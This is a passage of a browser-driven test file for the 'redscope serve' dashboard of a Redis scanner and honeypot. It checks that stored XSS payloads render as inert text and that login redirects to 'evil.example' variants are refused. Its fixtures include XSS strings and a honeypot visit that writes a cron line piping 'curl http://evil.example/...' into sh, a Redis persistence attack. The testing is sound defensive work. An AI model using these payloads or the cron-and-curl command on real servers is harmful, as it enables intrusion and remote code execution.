/**
 * `redscope serve` as a user meets it: the real CLI over a real SQLite store that a real scan,
 * the real honeypot and a real audit wrote into, driven in headless Chromium (Debian's, through
 * playwright-core). Stored strings carry XSS payloads (INFO fields, honeypot arguments); every
 * page is visited and nothing may run, load or pop up. Screenshots go to test-output/screenshots/.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { parse as parseCsv } from "csv-parse/sync";
import { type Browser, chromium, type Page } from "playwright-core";
import { type RedisProcess, startRedis } from "../src/lab/redis.js";
import { QUERY_KEYS } from "../src/report/query.js";
import { encodeCommand } from "../src/resp/index.js";
import type { ProbeResult } from "../src/schema/result.js";
import { Lru } from "../src/serve/lru.js";
import { Guard, LOGIN_SOURCES, loginSource } from "../src/serve/security.js";
import { openStore } from "../src/store/index.js";
import { BIN, runCli } from "./helpers/cli.js";
import { type RunningHoneypot, startHoneypot } from "./helpers/honeypot-process.js";
import { canMakeNetns, createTestHost } from "./helpers/netns.js";
import { freePort } from "./helpers/ports.js";
import { testScan } from "./helpers/scans.js";

const CHROMIUM = "/usr/bin/chromium";

/**
 * Headless Chromium in which no name resolves (a page sent to evil.example fails there, without
 * a DNS query): the dashboard is an address.
 */
function launchBrowser(): Promise<Browser> {
  return chromium.launch({
    executablePath: CHROMIUM,
    args: ["--no-sandbox", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"],
  });
}

/** A logged-in tab that fails the test on any dialog, foreign request or page error. */
async function loggedInTab(
  browser: Browser,
  url: string,
): Promise<{ page: Page; problems: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const problems: string[] = [];
  page.on("dialog", (d) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
  page.on("console", (m) => {
    if (m.type() === "error") problems.push(`console: ${m.text()}`);
  });
  page.on("request", (r) => {
    const u = new URL(r.url());
    if (u.origin !== url || u.pathname.startsWith("/xss")) problems.push(`request: ${r.url()}`);
  });
  await page.goto(`${url}/scans`);
  assert.match(page.url(), /\/login\?next=%2Fscans$/, "sent to the login first");
  await page.fill("input[name=token]", TOKEN);
  await Promise.all([page.waitForURL(/\/scans$/), page.click("button[type=submit]")]);
  return { page, problems };
}
const SHOTS = fileURLToPath(new URL("../../test-output/screenshots/", import.meta.url));
const TOKEN = "test-token-0123456789-abcdef";

/** Payloads that would run, load or alert if any page put them in as HTML. */
const XSS = {
  script: "7.0.15<script>alert('v')</script>",
  img: "<img src=/xss-img onerror=alert('i')>",
  attr: "\"><svg onload=alert('a')>",
  js: "javascript:alert('j')",
};

interface Served {
  child: ChildProcess;
  url: string;
  out: () => string;
  stop: () => Promise<void>;
}

/** Start `redscope serve ARGS` (optionally in a network namespace) and wait for its URL. */
async function serve(args: string[], netns?: string): Promise<Served> {
  const cmd = netns ? "ip" : process.execPath;
  const argv = netns
    ? ["netns", "exec", netns, process.execPath, BIN, "serve", ...args]
    : [BIN, "serve", ...args];
  const child = spawn(cmd, argv, { stdio: ["ignore", "pipe", "pipe"] });
  let out = "";
  child.stdout!.on("data", (d) => (out += d));
  child.stderr!.on("data", (d) => (out += d));
  const deadline = Date.now() + 15_000;
  let m: RegExpMatchArray | null = null;
  for (;;) {
    m = /dashboard on (\S+) over/.exec(out);
    if (m) break;
    if (child.exitCode !== null || Date.now() > deadline) {
      child.kill("SIGKILL");
      throw new Error(`serve did not start: ${out}`);
    }
    await new Promise((r) => setTimeout(r, 50));
  }
  return {
    child,
    url: m[1]!.replace(/\/$/, ""),
    out: () => out,
    stop: async () => {
      if (child.exitCode !== null) return;
      const closed = new Promise((r) => child.once("close", r));
      child.kill("SIGTERM");
      await closed;
    },
  };
}

/** GET /login's answer: its CSRF cookie (as a Cookie header) and the form's token. */
function loginForm(setCookie: string | null, html: string): { cookie: string; csrf: string } {
  return {
    cookie: /redscope_login=[^;]+/.exec(setCookie ?? "")![0],
    csrf: /name="csrf" value="([^"]+)"/.exec(html)![1]!,
  };
}

/** Poll `cond` every 100 ms for up to `ms` (the page's own CSP forbids string evaluation). */
async function until(cond: () => Promise<boolean>, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await cond())) {
    if (Date.now() > deadline)
      throw new Error(`condition not met in ${ms} ms: ${cond.toString().slice(0, 200)}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A visitor that sends hostile arguments to the honeypot, then leaves. */
async function visit(port: number, commands: string[][]): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    const s = net.connect({ host: "127.0.0.1", port }, () => {
      for (const c of commands) s.write(encodeCommand(c));
      setTimeout(() => s.end(), 300);
    });
    s.on("data", () => undefined);
    s.on("error", reject);
    s.on("close", () => resolve());
  });
}

/** The little of the DOM the tests read inside the page (the test code has no DOM types). */
type DomRow = { cells: ArrayLike<{ textContent: string | null }> };
type DomWindow = { getComputedStyle(e: unknown): { lineHeight: string } };

/** A long IPv6 address: the one that wrapped mid-address. */
const V6 = "2001:db8:ffff:ffff:ffff:ffff:ffff:fffe";

function v6Result(scanId: string): ProbeResult {
  return {
    ip: V6,
    port: 6379,
    transport: "tcp",
    time: "2026-11-20T10:00:00.500Z",
    scan_id: scanId,
    state: "auth_required",
    nicer: "Requires authentication",
    detail: "NOAUTH",
  };
}

function hostileResults(scanId: string): ProbeResult[] {
  const base = {
    port: 6379,
    transport: "tcp" as const,
    time: "2026-11-20T10:00:01.000Z",
    scan_id: scanId,
  };
  const out: ProbeResult[] = [];
  for (let i = 1; i <= 120; i++) {
    out.push({
      ...base,
      ip: `192.0.2.${i}`,
      state: i % 2 === 0 ? "open" : "auth_required",
      ...(i % 2 === 0
        ? {
            nicer: "Returned version",
            server: {
              product: "redis",
              version: i === 2 ? XSS.script : "7.0.15",
              redis_version: "7.0.15",
              role: "master",
              os: XSS.img,
              executable: XSS.attr,
            },
            cves: [{ id: "CVE-2025-49844", cvss: 10, fixed_in: "7.2.11" }],
            as_org: XSS.attr,
            asn: 64500,
            country: "DE",
          }
        : { detail: "NOAUTH", error: XSS.img }),
    });
  }
  return out;
}

describe("redscope serve", {
  skip: fs.existsSync(CHROMIUM) ? false : `${CHROMIUM} not installed`,
}, () => {
  let tmp = "";
  let db = "";
  let hp: RunningHoneypot;
  let redis: RedisProcess;
  let dash: Served;
  let browser: Browser;

  before(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-serve-"));
    db = path.join(tmp, "dash.db");
    fs.mkdirSync(SHOTS, { recursive: true });
    // Two stored scans with hostile INFO fields: the second one changes a few targets.
    const store = await openStore(db);
    for (const [id, day] of [
      ["old", "2026-11-19"],
      ["new", "2026-11-20"],
    ] as const) {
      await store.beginScan(testScan(id, `${day}T10:00:00.000Z`));
      await store.beginShard({ scanId: id, shard: "0/1", startedAt: `${day}T10:00:00.000Z` });
      const rows = hostileResults(id).map((r, i) =>
        id === "new" && i < 5 ? { ...r, state: "open" as const } : r,
      );
      // The newer scan also found an IPv6 server (first in its insertion order).
      if (id === "new") rows.unshift(v6Result(id));
      await store.insertResults(id, rows);
      await store.finishShard(id, "0/1", await store.stateCounts(id, "0/1"));
    }
    await store.close();

    // The honeypot writes into the same store; a visitor sends hostile arguments.
    hp = await startHoneypot(["--db", db, "--listen", "127.0.0.1:0/redis-7.0-open"]);
    const hpPort = hp.ports.get("redis-7.0-open")!;
    await visit(hpPort, [
      ["CONFIG", "SET", "dir", XSS.img],
      ["SET", "backup1", `\n\n*/1 * * * * curl -fsSL http://evil.example/${XSS.script}|sh\n\n`],
      ["CLIENT", "SETNAME", XSS.attr],
    ]);
    // The recorder writes in batches: wait until the session has ended in the store.
    await until(async () => {
      const s = await openStore(db);
      try {
        const [row] = await s.recentHoneypotSessions(1);
        return row?.endedAt !== undefined && (await s.honeypotEvents(row.id)).length >= 4;
      } finally {
        await s.close();
      }
    });

    // An audit of a real server, kept in the store.
    const port = await freePort();
    redis = await startRedis({ host: "127.0.0.1", port });
    const a = await runCli(["audit", `redis://127.0.0.1:${port}`, "--db", db, "--timeout", "3s"]);
    assert.equal(a.code, 1, a.stderr);

    dash = await serve(["--db", db, "--listen", "127.0.0.1:0", "--token", TOKEN]);
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    await dash?.stop();
    await hp?.stop();
    await redis?.stop();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  const tab = () => loggedInTab(browser, dash.url);

  test("every page in Chromium: hostile strings shown as text, nothing runs or loads; screenshots", async () => {
    const { page, problems } = await tab();
    const shot = async (name: string): Promise<void> => {
      await page.screenshot({ path: path.join(SHOTS, `dashboard-${name}.png`), fullPage: true });
    };
    assert.equal(await page.locator("tbody tr").count(), 2);
    await shot("scans");

    await page.click("a[href='/scans/new']");
    await page.waitForURL(/\/scans\/new$/);
    assert.ok((await page.locator("svg").count()) >= 2, "the report's charts");
    const scanText = (await page.locator("body").textContent()) ?? "";
    assert.ok(scanText.includes(XSS.attr), "a hostile AS name is shown as text");
    await shot("scan");

    // Search: by the form's query box, then one host's history.
    await page.goto(`${dash.url}/search`);
    await page.fill("input[name=q]", "state:open country:de");
    await Promise.all([
      page.waitForURL(/\/search\?scan=new&q=state%3Aopen\+country%3Ade$/),
      page.click("button.primary"),
    ]);
    assert.equal(await page.inputValue("input[name=q]"), "state:open country:DE");
    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 50);
    await until(async () =>
      /\d+ results/.test((await page.locator("[data-count-url]").textContent()) ?? ""),
    );
    assert.equal(await page.locator("[data-count-url]").textContent(), "60 results");
    // The query box, the export links and the first rows: the window, not all 50 rows.
    await page.screenshot({ path: path.join(SHOTS, "dashboard-search.png") });
    await Promise.all([page.waitForURL(/q=state%3Aopen.*after=/), page.click("text=Next page")]);
    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 10);
    await page.goto(
      `${dash.url}/search?scan=new&cve=CVE-2025-49844&q=${encodeURIComponent(XSS.script)}`,
    );
    assert.equal(await page.locator("section:has(h2:text('Results')) tbody tr").count(), 1);
    await Promise.all([page.waitForURL(/\/hosts\//), page.click("td a >> nth=0")]);
    assert.equal(await page.locator("section:has(h2:text('Across scans')) tbody tr").count(), 2);
    assert.ok(((await page.locator("pre.record").textContent()) ?? "").includes(XSS.attr));
    await shot("host");

    await page.goto(`${dash.url}/scans`);
    await page.selectOption("select[name=a]", "old");
    await page.selectOption("select[name=b]", "new");
    await Promise.all([page.waitForURL(/\/diff\?/), page.click("button:has-text('Compare')")]);
    assert.match((await page.locator("#diff-summary").textContent()) ?? "", /newly open\s*3/);
    await shot("diff");

    // The honeypot: a session's transcript shows the visitor's arguments as text.
    await page.goto(`${dash.url}/honeypot`);
    await Promise.all([
      page.waitForURL(/\/honeypot\/sessions\//),
      page.click("#feed tbody tr >> nth=0 >> a"),
    ]);
    const transcript = (await page.locator("body").textContent()) ?? "";
    assert.ok(
      transcript.includes(XSS.img),
      `CONFIG SET dir with an <img> payload, as text: ${transcript.slice(0, 3000)}`,
    );
    assert.match(transcript, /config_set|CONFIG/i);
    await shot("session");

    await page.goto(`${dash.url}/audits`);
    await Promise.all([page.waitForURL(/\/audits\/./), page.click("tbody tr >> nth=0 >> a")]);
    assert.match((await page.locator("body").textContent()) ?? "", /RS-AUTH-001/);
    await shot("audit");

    assert.deepEqual(problems, []);
    // Had any payload become markup, there would be an element for it.
    for (const sel of ["script:not([src])", "img", "svg[onload]", "[onerror]"]) {
      assert.equal(await page.locator(sel).count(), 0, sel);
    }
  });

  test("links: every filter value leads to its search, CVE and ATT&CK ids to their references, diff rows to hosts", async () => {
    const { page, problems } = await tab();
    const count = async (): Promise<string> => {
      await until(async () =>
        /\d+ results?/.test((await page.locator("[data-count-url]").textContent()) ?? ""),
      );
      return (await page.locator("[data-count-url]").textContent()) ?? "";
    };
    const results = page.locator("section:has(h2:text('Results')) tbody tr");
    /** Click the first link matching `sel` in the results; where it lands, and the count. */
    const follow = async (sel: string): Promise<{ q: string; n: string }> => {
      await page.goto(
        `${dash.url}/search?scan=new&q=${encodeURIComponent("state:open country:DE")}`,
      );
      await Promise.all([page.waitForURL(/\/search\?/), results.locator(sel).first().click()]);
      const u = new URL(page.url());
      assert.equal(u.searchParams.get("scan"), "new");
      return { q: u.searchParams.get("q") ?? "", n: await count() };
    };
    // 60 open servers in DE (AS64500), all redis, 59 of them say 7.0.15, all 60 carry the CVE;
    // 63 open (3 newly open without INFO).
    assert.deepEqual(await follow("a:text-is('DE')"), { q: "country:DE", n: "60 results" });
    assert.deepEqual(await follow("a:text-is('AS64500')"), { q: "asn:AS64500", n: "60 results" });
    assert.deepEqual(await follow("a:text-is('7.0.15')"), {
      q: "product:redis version:7.0.15",
      n: "59 results",
    });
    assert.deepEqual(await follow("a:text-is('redis')"), { q: "product:redis", n: "60 results" });
    assert.deepEqual(await follow("a:text-is('open')"), { q: "state:open", n: "63 results" });
    assert.deepEqual(await follow("a:text-is('CVE-2025-49844')"), {
      q: "cve:CVE-2025-49844",
      n: "60 results",
    });
    assert.equal(await page.inputValue("input[name=q]"), "cve:CVE-2025-49844");

    // The scan's report: its tables' values and counts lead to the same searches.
    const fromReport = async (sel: string): Promise<{ q: string; n: string }> => {
      await page.goto(`${dash.url}/scans/new`);
      await Promise.all([page.waitForURL(/\/search\?/), page.locator(sel).first().click()]);
      const u = new URL(page.url());
      assert.equal(u.searchParams.get("scan"), "new");
      return { q: u.searchParams.get("q") ?? "", n: await count() };
    };
    assert.deepEqual(await fromReport("#countries td a:text-is('Germany (DE)')"), {
      q: "country:DE",
      n: "60 results",
    });
    await page.goto(`${dash.url}/scans/new`);
    const openColumn = await page
      .locator("#countries thead th")
      .evaluateAll((ths) => ths.findIndex((th) => th.textContent?.trim() === "open"));
    assert.ok(openColumn > 0);
    assert.deepEqual(
      await fromReport(`#countries tbody tr >> nth=0 >> td >> nth=${openColumn} >> a`),
      { q: "state:open country:DE", n: "60 results" },
    );
    assert.deepEqual(await fromReport("#asns td a:text-is('64500')"), {
      q: "asn:AS64500",
      n: "60 results",
    });
    assert.deepEqual(await fromReport("#cves td a:text-is('CVE-2025-49844')"), {
      q: "cve:CVE-2025-49844",
      n: "60 results",
    });
    assert.deepEqual(await fromReport("#states td a:text-is('open')"), {
      q: "state:open",
      n: "63 results",
    });
    assert.deepEqual(await fromReport("#versions-redis td a:text-is('7.0.15')"), {
      q: "product:redis version:7.0.15",
      n: "59 results",
    });

    // A CVE's public reference: another site, no opener, no referrer; the CSP lets the tab go
    // there (answered here by the test: nothing leaves the machine).
    const nvd = results.locator("a.ref").first();
    assert.equal(await nvd.getAttribute("href"), "https://nvd.nist.gov/vuln/detail/CVE-2025-49844");
    assert.equal(await nvd.getAttribute("rel"), "noopener noreferrer");
    await page.route("https://nvd.nist.gov/**", (route) =>
      route.fulfill({ status: 200, contentType: "text/plain", body: "NVD stand-in" }),
    );
    const seen = problems.length;
    await Promise.all([page.waitForURL(/^https:\/\/nvd\.nist\.gov\//), nvd.click()]);
    assert.equal(await page.locator("body").textContent(), "NVD stand-in");
    // That one request went to the stand-in on purpose.
    problems.splice(seen);

    // Export links: the /export route's URL form, the whole filter in q.
    await page.goto(`${dash.url}/search?scan=new&q=${encodeURIComponent("state:open country:de")}`);
    const exports = page.locator("a.export");
    assert.deepEqual(await exports.evaluateAll((els) => els.map((e) => e.getAttribute("href"))), [
      "/export?scan=new&q=state%3Aopen+country%3ADE&format=csv",
      "/export?scan=new&q=state%3Aopen+country%3ADE&format=jsonl",
    ]);
    // Clicked, the CSV link downloads every row the search matched (60), parsed back whole.
    const [download] = await Promise.all([page.waitForEvent("download"), exports.first().click()]);
    assert.equal(download.suggestedFilename(), "redscope-new.csv");
    const exported = parseCsv(fs.readFileSync((await download.path())!), {
      columns: true,
      comment: "#",
    }) as Array<Record<string, string>>;
    assert.equal(exported.length, 60);
    assert.ok(
      exported.every((r) => r.state === "open" && r.geo === "DE"),
      "state and country",
    );

    // The host page: its values link to the search in the scan of each row.
    await page.goto(`${dash.url}/hosts/192.0.2.4`);
    const hostRows = page.locator("section:has(h2:text('Across scans')) tbody tr");
    assert.equal(await hostRows.count(), 2);
    await Promise.all([
      page.waitForURL(/\/search\?/),
      hostRows
        .filter({ has: page.locator("a[href='/scans/old']") })
        .locator("a:text-is('DE')")
        .click(),
    ]);
    assert.equal(new URL(page.url()).searchParams.get("scan"), "old");
    assert.equal(await count(), "60 results");
    await page.goto(`${dash.url}/hosts/192.0.2.4`);
    const cve = page.locator("section:has(h2:text('Known CVEs')) a.ref");
    assert.equal(await cve.getAttribute("href"), "https://nvd.nist.gov/vuln/detail/CVE-2025-49844");

    // The diff: each changed target leads to its host page.
    await page.goto(`${dash.url}/diff?a=old&b=new`);
    const diffRows = page.locator("#diff tbody tr");
    assert.equal(await diffRows.count(), 4, "3 newly open, 1 appeared (the IPv6 server)");
    const first = diffRows.first().locator("td >> nth=0 >> a");
    assert.equal(await first.textContent(), "192.0.2.1:6379");
    await Promise.all([page.waitForURL(/\/hosts\//), first.click()]);
    assert.equal(new URL(page.url()).pathname, "/hosts/192.0.2.1");
    assert.match((await page.locator("h1").textContent()) ?? "", /Host 192\.0\.2\.1$/);

    // ATT&CK ids on a honeypot session: their technique pages (a sub-technique as T1234/001/).
    await page.goto(`${dash.url}/honeypot`);
    await Promise.all([
      page.waitForURL(/\/honeypot\/sessions\//),
      page.click("#feed tbody tr >> nth=-1 >> a"),
    ]);
    const techniques = await page
      .locator("section:has(h2:text('Attack classes')) a")
      .evaluateAll((els) =>
        els.map((e) => [e.textContent, e.getAttribute("href"), e.getAttribute("rel")]),
      );
    assert.ok(techniques.length > 0, "the cron write has a technique");
    for (const [id, link, rel] of techniques) {
      const m = /^T(\d{4})(?:\.(\d{3}))?$/.exec(id ?? "")!;
      assert.ok(m, String(id));
      assert.equal(link, `https://attack.mitre.org/techniques/T${m[1]}/${m[2] ? `${m[2]}/` : ""}`);
      assert.equal(rel, "noopener noreferrer");
    }
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test("sorting: a header click sorts addresses as addresses, a second reverses; aria-sort", async () => {
    const { page, problems } = await tab();
    await page.goto(`${dash.url}/search?scan=new&q=state%3Aauth_required`);
    const table = page.locator("section:has(h2:text('Results')) table");
    const column = async (i: number): Promise<string[]> =>
      table
        .locator("tbody tr")
        .evaluateAll(
          (rows, n) => rows.map((r) => (r as unknown as DomRow).cells[n]!.textContent!.trim()),
          i,
        );
    const before = await column(0);
    assert.equal(before[0], V6, "insertion order: the IPv6 server first");
    const v4 = (ip: string): number => ip.split(".").reduce((n, o) => n * 256 + Number(o), 0);
    // Expected: every IPv4 address by its number, then the IPv6 one.
    const expected = [
      ...before.filter((ip) => !ip.includes(":")).sort((x, y) => v4(x) - v4(y)),
      V6,
    ];
    const th = table.locator("th:has-text('address')");
    await th.locator("button").click();
    assert.equal(await th.getAttribute("aria-sort"), "ascending");
    const sorted = await column(0);
    assert.deepEqual(sorted, expected);
    assert.ok(sorted.indexOf("192.0.2.9") < sorted.indexOf("192.0.2.11"), "not as text");
    await th.locator("button").click();
    assert.equal(await th.getAttribute("aria-sort"), "descending");
    assert.deepEqual(await column(0), [...expected].reverse());
    // Another column takes over: the first loses its mark.
    const port = table.locator("th:has-text('port')");
    await port.locator("button").click();
    assert.equal(await port.getAttribute("aria-sort"), "ascending");
    assert.equal(await th.getAttribute("aria-sort"), null);

    // The report's own tables sort too (their kinds read from their cells).
    await page.goto(`${dash.url}/scans/new`);
    const states = page.locator("#states table, #nicer table").first();
    const numbers = async (): Promise<number[]> =>
      (
        await states
          .locator("tbody tr")
          .evaluateAll((rows) => rows.map((r) => (r as unknown as DomRow).cells[1]!.textContent!))
      ).map((t) => Number(t.replace(/[,%]/g, "")));
    const h = states.locator("thead th").nth(1);
    await h.locator("button").click();
    const asc = await numbers();
    assert.deepEqual(
      asc,
      [...asc].sort((x, y) => x - y),
    );
    await h.locator("button").click();
    assert.deepEqual(await numbers(), [...asc].reverse());
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test("the query box: the form and the URL share the syntax; a bad term is one line (400)", async () => {
    const { page, problems } = await tab();
    await page.goto(`${dash.url}/search?scan=new`);
    await page.fill("input[name=q]", "state:nonsense");
    const [response] = await Promise.all([
      page.waitForResponse((r) => r.url().includes("/search?")),
      page.click("button.primary"),
    ]);
    assert.equal(response.status(), 400);
    assert.equal(await page.locator(".flash").textContent(), "no such state: nonsense");
    assert.equal(await page.inputValue("input[name=q]"), "state:nonsense", "kept to be fixed");
    // Older single-field links still work and show as the query they mean.
    await page.goto(`${dash.url}/search?scan=new&state=open&version=%3C8&q=DE`);
    assert.equal(await page.inputValue("input[name=q]"), 'state:open version:<8 "DE"');
    assert.equal(await page.locator("select[name=scan]").inputValue(), "new");
    // The syntax help names every key.
    const help = (await page.locator(".syntax").textContent()) ?? "";
    for (const k of QUERY_KEYS) assert.ok(help.includes(k), k);
    // "Next page" carries the whole filter as q.
    const next = await page.locator(".pager a:has-text('Next page')").getAttribute("href");
    assert.equal(new URL(next!, dash.url).searchParams.get("q"), 'state:open version:<8 "DE"');
    // Problems: only the 400 page's own console line.
    assert.deepEqual(
      problems.filter((p) => !/status of 400/.test(p)),
      [],
    );
    await page.context().close();
  });

  test("search across all scans: newest first, rows labelled with their scan, bounded pages", async () => {
    const { page, problems } = await tab();
    await page.goto(`${dash.url}/search`);
    await page.selectOption("select[name=scan]", "all");
    await page.fill("input[name=q]", "state:open country:DE");
    await Promise.all([page.waitForURL(/scan=all/), page.click("button.primary")]);
    const rows = page.locator("section:has(h2:text('Results')) tbody tr");
    const seen: string[] = [];
    const labels: string[] = [];
    for (let i = 0; i < 5; i++) {
      const cells = await rows.evaluateAll((rs) =>
        rs.map((r) => [
          (r as unknown as DomRow).cells[0]!.textContent!.trim(),
          (r as unknown as DomRow).cells[1]!.textContent!.trim(),
        ]),
      );
      for (const [ip, scan] of cells) {
        seen.push(`${scan} ${ip}`);
        labels.push(scan!);
      }
      const next = page.locator(".pager a:has-text('→')");
      if ((await next.count()) === 0) break;
      await Promise.all([page.waitForURL(/from=/), next.click()]);
    }
    assert.equal(seen.length, 120, "60 in each scan");
    assert.equal(new Set(seen).size, 120, "no row twice");
    // Newest scan first: every "new" row before any "old" one.
    assert.equal(labels.lastIndexOf("new"), 59);
    assert.equal(labels.indexOf("old"), 60);
    await page.goto(`${dash.url}/search?scan=all&q=${encodeURIComponent("state:open country:DE")}`);
    await until(async () =>
      /results/.test((await page.locator("[data-count-url]").textContent()) ?? ""),
    );
    assert.equal(await page.locator("[data-count-url]").textContent(), "120 results");
    // The scan label leads to that scan; the address to the host's history across scans.
    await Promise.all([
      page.waitForURL(/\/scans\/new$/),
      rows.first().locator("td >> nth=1 >> a").click(),
    ]);
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test("bugs seen: whole record keeps its newlines, compare preselects two scans, IPv6 on one line, one diff heading, audits count what was not checked", async () => {
    const { page, problems } = await tab();
    const shot = async (name: string): Promise<void> => {
      await page.screenshot({ path: path.join(SHOTS, `dashboard-${name}.png`), fullPage: true });
    };
    // The latest record, whole: pretty JSON with its line breaks, read back as the record.
    await page.goto(`${dash.url}/hosts/192.0.2.2`);
    const text = (await page.locator("pre.record").textContent()) ?? "";
    assert.match(text, /^\{\n {2}"port": 6379,\n {2}"transport": "tcp",\n/);
    const record = JSON.parse(text) as ProbeResult;
    assert.equal(record.server?.version, XSS.script);
    assert.equal(record.as_org, XSS.attr);

    // Compare two scans: the second newest before, the newest after.
    await page.goto(`${dash.url}/scans`);
    assert.equal(await page.locator("select[name=a]").inputValue(), "old");
    assert.equal(await page.locator("select[name=b]").inputValue(), "new");
    await Promise.all([
      page.waitForURL(/\/diff\?a=old&b=new$/),
      page.click("button:has-text('Compare')"),
    ]);

    // The diff says what it compares once.
    const headings = await page.locator("h1, h2").allTextContents();
    assert.equal(headings.filter((h) => /Changes from/.test(h)).length, 1, headings.join(" | "));

    // An IPv6 address stays on one line, in a narrow window too.
    await page.setViewportSize({ width: 420, height: 900 });
    const lines = async (sel: string): Promise<number> =>
      page
        .locator(sel)
        .first()
        .evaluate((e) => {
          const height = e.getBoundingClientRect().height;
          const line =
            Number.parseFloat(
              (globalThis as unknown as DomWindow).getComputedStyle(e).lineHeight,
            ) || 20;
          return Math.round(height / line);
        });
    const v6Cell = `#diff tbody td span.ip:text("${V6}")`;
    assert.equal(await page.locator(v6Cell).count(), 1);
    assert.equal(await lines(v6Cell), 1, "the diff's target cell");
    await page.goto(`${dash.url}/search?scan=new&q=state%3Aauth_required`);
    assert.equal(await lines(`tbody td span.ip:text("${V6}")`), 1, "a search result");
    await page.goto(`${dash.url}/hosts/${encodeURIComponent(V6)}`);
    assert.equal(await lines("h1 span.ip"), 1, "the host page's heading");
    await page.setViewportSize({ width: 1280, height: 900 });

    // The audits list: passed, failed and not checked, as the store counted them.
    const store = await openStore(db);
    const [audit] = await store.listAudits(1);
    await store.close();
    await page.goto(`${dash.url}/audits`);
    const heads = await page.locator("thead th").allTextContents();
    const cells = await page.locator("tbody tr >> nth=0 >> td").allTextContents();
    const at = (name: string): string => cells[heads.indexOf(name)] ?? "";
    assert.ok(audit && audit.notChecked !== undefined);
    assert.deepEqual(
      [at("passed"), at("failed"), at("not checked")],
      [String(audit.passed), String(audit.failed), String(audit.notChecked)],
    );
    await shot("audits");
    assert.deepEqual(problems, []);
    await page.context().close();
  });

  test("live: a running scan's progress moves and its page reloads when done; new honeypot sessions appear", async () => {
    const { page, problems } = await tab();
    // Closed loopback ports, paced slowly enough to watch: 96 targets at 40 a second.
    const port = await freePort();
    const scan = spawn(
      process.execPath,
      [
        BIN,
        "scan",
        "127.9.0.0/25",
        "-p",
        String(port),
        "--rate",
        "40",
        "--db",
        db,
        "--scan-id",
        "live",
        "--allow-reserved",
        "-q",
      ],
      { stdio: "ignore" },
    );
    try {
      const deadline = Date.now() + 10_000;
      while (Date.now() < deadline) {
        await page.goto(`${dash.url}/scans/live`);
        if ((await page.locator("[data-live-scan][data-reload]").count()) > 0) break;
        await new Promise((r) => setTimeout(r, 300));
      }
      // The scan's page was missing (404) until the scan began: those loads are not problems.
      problems.length = 0;
      const bar = page.locator("section:has(h2:text('Running')) progress");
      const first = Number(await bar.getAttribute("value"));
      // The bar moves without a reload (the page's live script, fed by Server-Sent Events).
      await until(
        async () =>
          Number(await bar.evaluate((e) => (e as unknown as { value: number }).value)) > first,
      );
      // When the scan ends the page reloads into the finished report (no Running section).
      await page.waitForSelector("section:has(h2:text('Running'))", {
        state: "detached",
        timeout: 20_000,
      });
      assert.match((await page.locator("header").textContent()) ?? "", /Finished/);
    } finally {
      scan.kill("SIGKILL");
    }
    await page.screenshot({ path: path.join(SHOTS, "dashboard-live-scan.png"), fullPage: true });

    await page.goto(`${dash.url}/honeypot`);
    const rows = await page.locator("#feed tbody tr").count();
    await visit(hp.ports.get("redis-7.0-open")!, [["PING"], ["INFO"]]);
    await until(async () => (await page.locator("#feed tbody tr").count()) > rows);
    assert.deepEqual(problems, []);
  });

  test("login: `next` leads only to this dashboard, as the browser parses it", async () => {
    // Without a token (loopback), /login sends a visitor straight on to `next`.
    const open = await serve(["--db", db, "--listen", "127.0.0.1:0"]);
    const context = await browser.newContext();
    try {
      /** Where `next` leads: the login form's field and, after the right token, the Location. */
      const login = async (next: string): Promise<Record<string, string>> => {
        const q = `/login?next=${encodeURIComponent(next)}`;
        const form = await fetch(`${dash.url}${q}`);
        const html = await form.text();
        const { cookie, csrf } = loginForm(form.headers.get("set-cookie"), html);
        const post = await fetch(`${dash.url}/login`, {
          method: "POST",
          redirect: "manual",
          headers: { "content-type": "application/x-www-form-urlencoded", cookie },
          body: new URLSearchParams({ csrf, token: TOKEN, next }).toString(),
        });
        const straight = await fetch(`${open.url}${q}`, { redirect: "manual" });
        assert.deepEqual([post.status, straight.status], [303, 303], JSON.stringify(next));
        return {
          form: /name="next" value="([^"]*)"/.exec(html)![1]!.replaceAll("&amp;", "&"),
          login: post.headers.get("location")!,
          "no login": straight.headers.get("location")!,
        };
      };
      // What the WHATWG URL parser (the browser's) reads as another host: tabs and newlines
      // are dropped, a backslash is a slash, dot segments can leave "//" in front.
      for (const next of [
        "/\t/evil.example/",
        "/\n/evil.example/",
        "/\r\n/evil.example/",
        " /\t/evil.example/",
        "/\\evil.example/",
        "\\/evil.example/",
        "//evil.example/",
        "/.//evil.example/",
        "/%2e//evil.example/",
        "/scans/..//evil.example/",
        "https://evil.example/",
        "javascript:alert(1)",
      ]) {
        for (const [where, to] of Object.entries(await login(next))) {
          const origin = new URL(to, dash.url).origin;
          assert.equal(
            origin,
            dash.url,
            `${where}: ${JSON.stringify(next)} → ${JSON.stringify(to)}`,
          );
        }
      }
      // A page of the dashboard is kept, as its parsed path and query (never the raw text).
      const kept = "/search?scan=new&q=%3Cb%3E";
      assert.deepEqual(await login("/search?scan=new&q=<b>"), {
        form: kept,
        login: kept,
        "no login": kept,
      });

      // The real browser, with the issue's `next`: it stays on the dashboard. (Were it sent
      // elsewhere, its navigation would fail there: no name resolves.)
      const page = await context.newPage();
      const away: string[] = [];
      page.on("request", (r) => {
        const origin = new URL(r.url()).origin;
        if (origin !== dash.url && origin !== open.url) away.push(r.url());
      });
      const issue = "/login?next=%2F%09%2Fevil.example%2F";
      await page.goto(`${open.url}${issue}`).catch(() => undefined);
      assert.deepEqual({ url: page.url(), away }, { url: `${open.url}/scans`, away: [] });
